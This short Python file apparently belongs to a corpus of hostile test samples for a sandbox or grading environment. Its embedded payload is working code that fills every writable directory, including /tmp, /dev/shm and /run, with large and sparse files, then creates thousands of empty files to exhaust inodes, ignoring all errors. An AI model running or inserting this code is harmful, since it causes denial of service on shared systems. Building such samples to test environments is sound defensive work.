"""Fills every folder that can be written, with data, holes, names and nothing."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import os

for folder in ("/home/student", "/tmp", "/dev/shm", "/run", "/var/tmp", "/dev"):
    for write in (os.write, lambda fd, block: os.ftruncate(fd, 1 << 50),
                  lambda fd, block: os.posix_fallocate(fd, 0, 1 << 30)):
        try:
            for number in range(200):
                fd = os.open(f"{folder}/{number}", os.O_CREAT | os.O_RDWR, 0o600)
                try:
                    write(fd, bytes(1 << 20))
                finally:
                    os.close(fd)
        except OSError:
            pass
    try:
        for number in range(4_000):
            os.close(os.open(f"{folder}/n{number}", os.O_CREAT | os.O_RDWR, 0o600))
    except OSError:
        pass
print("TRIED", flush=True)
"""
    },
    tried=True,
)
